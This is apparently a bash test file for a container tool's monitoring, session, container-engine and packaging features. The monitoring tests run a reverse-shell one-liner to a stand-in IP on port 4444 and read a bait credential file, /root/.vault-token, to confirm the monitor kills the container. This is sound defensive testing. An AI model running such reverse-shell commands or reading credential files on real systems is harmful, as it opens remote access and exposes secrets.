# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash
#
# Rows of host.sh about what is watched, sessions, engines inside and the package.

: "${slow:=600}"
A=/root/.coi/audit/box.jsonl

has() { # JQ-CONDITION, of the record of the box
	jq -e "select($1)" "$A" 2>/dev/null | grep -q .
}

within() { # SECONDS COMMAND...
	local end=$((SECONDS + $1))
	shift
	until "$@"; do
		[ $SECONDS -lt $end ] || return 1
		sleep 0.2
	done
}

not_running() {
	! coi container running box 2>/dev/null
}

inside() {
	timeout "$slow" coi container exec box -- "$@"
}

health_knows() { # what it says of file events is what a watcher then has
	local said names
	said=$(coi health --format json | jq -r '.. | .message? // empty' | grep '^available[;,]') || return 1
	names=$(jq -r 'select(.msg == "source.start" and .source == "files").backend' "$A" | tail -n 1)
	echo "$said; the watcher has $names"
	case $said in
	*"with names"*) [ "$names" = fanotify ] ;;
	*"not told"*) [ "$names" = fanotify-fd ] ;;
	*) return 1 ;;
	esac
}

kernel_tells() { # each of them, and by programs in the kernel
	local source
	for source in exec:bpf connect:bpf files:fanotify counters:cgroup; do
		has '.msg == "source.start" and .source == "'"${source%:*}"'" and
			(.backend | startswith("'"${source#*:}"'"))' || { echo "$source"; return 1; }
	done
}

all_recorded() {
	inside sh -c 'i=0; while [ $i -lt 200 ]; do /bin/true nr-$i; i=$((i + 1)); done; wget -q -O /dev/null http://203.0.113.10/; ! wget -q -O /dev/null http://10.9.8.7/'
	within 60 has '.type == "net" and (.peer | startswith("10.9.8.7")) and .state == "refused"' &&
		has '.type == "net" and .peer == "203.0.113.10:80"' &&
		[ "$(jq -r 'select(.type == "exec").args' "$A" | grep -c '^/bin/true nr-')" = 200 ] &&
		! has '.msg == "source.lost"'
}

bait_taken() {
	inside bash -c 'f=$1; read -r x <"$f$2"' x /root/.vault -token || true
	within 60 not_running && has '.title == "Bait taken" and .action == "killed"'
}

reverse_shell() {
	timeout "$slow" coi container start box || return 1
	inside bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 600' || true
	within 60 not_running &&
		has '.level == "critical" and .action == "killed" and .title == "Reverse shell"' &&
		has '.type == "container.stop" and (.reason | test("Reverse shell"))'
}

verified() {
	coi audit verify box | tee /tmp/said && grep -q 'whole' /tmp/said || return 1
	cp "$A" /tmp/record
	sed -i '5s/"seq"/"Seq"/' "$A"
	if coi audit verify box; then return 1; fi
	cp /tmp/record "$A"
	coi audit verify box
}

watched() {
	check "a watched container starts" launch '[monitoring]
enabled = true
auto_pause_on_high = false
canaries = true'
	check "the kernel tells of each kind" kernel_tells
	check "health says the same of it" health_knows
	check "each program and connection is recorded, refused ones too" all_recorded
	check "a bait that is read kills it" bait_taken
	check "a reverse shell kills it, and it is recorded" reverse_shell
	check "the record is whole, and a change is found" verified
}

session_name() {
	person 'sudo -n coi list --format json' | jq -r '.active_containers[0].name'
}

said_in_session() { # TEXT
	person 'sudo -n coi tmux capture '"$session" | grep -q "$1"
}

session_starts() {
	person 'sudo -n timeout '"$slow"' coi shell --background' || return 1
	session=$(session_name)
	within 120 test -s ~person/ws/said && [ "$(cat ~person/ws/said)" = "new /workspace 1000" ] &&
		[ "$(stat -c %U ~person/ws/said)" = person ] && within 60 said_in_session 'stand-in ready'
}

session_attached() { # in a terminal of the machine; left by its key
	session=$(session_name)
	runuser -u person -- tmux -L outer -f /dev/null new-session -d -x 100 -y 30 \
		'cd ~/ws; sudo -n coi attach; echo "ended with $?"; sleep 1000'
	shows() { runuser -u person -- tmux -L outer capture-pane -p | grep -q "$1"; }
	within 120 shows 'stand-in ready' || return 1
	runuser -u person -- tmux -L outer send-keys 'hello' Enter
	within 60 grep -qx 'typed hello' ~person/ws/typed || return 1
	runuser -u person -- tmux -L outer send-keys C-b d
	within 60 shows 'ended with 0' || return 1
	runuser -u person -- tmux -L outer kill-server
	person "sudo -n coi container running $session"
}

session_resumed() {
	rm -f ~person/ws/said
	session=$(session_name)
	person "sudo -n timeout $slow coi shutdown --timeout 10 $session" || return 1
	! coi container exists "$session" || return 1
	person 'sudo -n timeout '"$slow"' coi shell --background --resume' || return 1
	within 120 test -s ~person/ws/said && [ "$(cat ~person/ws/said)" = "on again /workspace 1000" ] &&
		person 'sudo -n coi kill --all --force'
}

sessions() {
	mkdir -p /opt/stand-in
	cat >/opt/stand-in/agent <<-'END'
		#!/bin/bash
		mkdir -p ~/.mine
		echo "$([ -e ~/.mine/talk ] && echo "${1-not} again" || echo new) $PWD $(id -u)" >/workspace/said.new
		echo talk >~/.mine/talk
		mv /workspace/said.new /workspace/said
		echo stand-in ready
		while read -r x; do echo "typed $x" >/workspace/typed; done
	END
	chmod -R a+rx /opt/stand-in
	settings '[[mounts.default]]
host = "/opt/stand-in"
container = "/opt/stand-in"
readonly = true
[tool.custom.mine]
binary = "/opt/stand-in/agent"
directory = ".mine"
resume = ["on"]
[tool]
name = "mine"'
	check "a session of a tool, in the background" session_starts
	check "entered, typed into and left by its key" session_attached
	check "ended, saved, and gone on with in a new container" session_resumed
}

boots() {
	timeout "$slow" coi container delete --force box >/dev/null 2>&1
	printf '[limits.memory]\nlimit = "1GiB"\n' >~/.coi/config.toml
	timeout "$slow" coi container launch engines box &&
		within 120 inside systemctl is-system-running --wait >/tmp/said
	cat /tmp/said
	# Nothing that a container cannot have is tried.
	[ "$(cat /tmp/said)" = running ] || { inside systemctl --failed --no-legend; return 1; }
}

ENGINE='set -e
	engine=$1
	$engine import /srv/small.tar small >/dev/null
	test "$($engine run --rm small id -u)" = 0
	$engine run -d --name web -p 8080:80 small sh -c "echo served >/srv/index.html; exec httpd -f -p 80 -h /srv" >/dev/null
	for i in $(seq 100); do curl -fsS -m 5 http://127.0.0.1:8080/ 2>/dev/null && break; sleep 0.5; done | grep -x served
	test "$($engine run --rm -m 64m small cat /sys/fs/cgroup/memory.max)" = 67108864
	$engine rm -f web >/dev/null
	if $engine run --rm small wget -q -O - http://10.9.8.7/; then exit 1; fi
	$engine run --rm small wget -q -O - http://203.0.113.10/ >/dev/null'

podman_root() {
	inside bash -c "$ENGINE" x podman
}

podman_code() {
	timeout "$slow" coi container exec box --user 1000 --cwd /home/code -- bash -c "$(grep -v memory.max <<<"$ENGINE")" x podman
}

docker_root() {
	inside systemctl start docker && inside bash -c "$ENGINE" x docker
}

engines() {
	check "an image with systemd and engines is imported" \
		timeout "$slow" coi image import /srv/coi/engines.tar --alias engines
	check "systemd boots in it" boots
	check "podman of root: run, a port, a limit, the container's network" podman_root
	check "podman of the user" podman_code
	check "docker: the same" docker_root
	settings
}

goes_on() {
	inside true && inside wget -q -O /dev/null http://203.0.113.10/ && has '.type == "exec"'
}

reinstalled() {
	dpkg -i /srv/coi/coi.deb && goes_on
}

upgraded() { # to one whose version alone is another
	rm -rf /srv/coi/next
	dpkg-deb -R /srv/coi/coi.deb /srv/coi/next &&
		sed -i 's/^Version: .*/&+next/' /srv/coi/next/DEBIAN/control &&
		dpkg-deb -b /srv/coi/next /srv/coi/next.deb >/dev/null && rm -rf /srv/coi/next || return 1
	dpkg -i /srv/coi/next.deb && goes_on && reverse_shell_kills && timeout "$slow" coi container start box && goes_on
}

reverse_shell_kills() {
	inside bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 600' || true
	within 60 not_running
}

not_removed() {
	if dpkg --remove coi >/tmp/said 2>&1; then return 1; fi
	cat /tmp/said
	grep -q 'coi shutdown' /tmp/said && goes_on
}

package() {
	check "a watched container starts" launch '[monitoring]
enabled = true'
	check "it goes on when the package is installed again" reinstalled
	check "and with the next version, watched as before" upgraded
	check "the package is not removed under it" not_removed
}
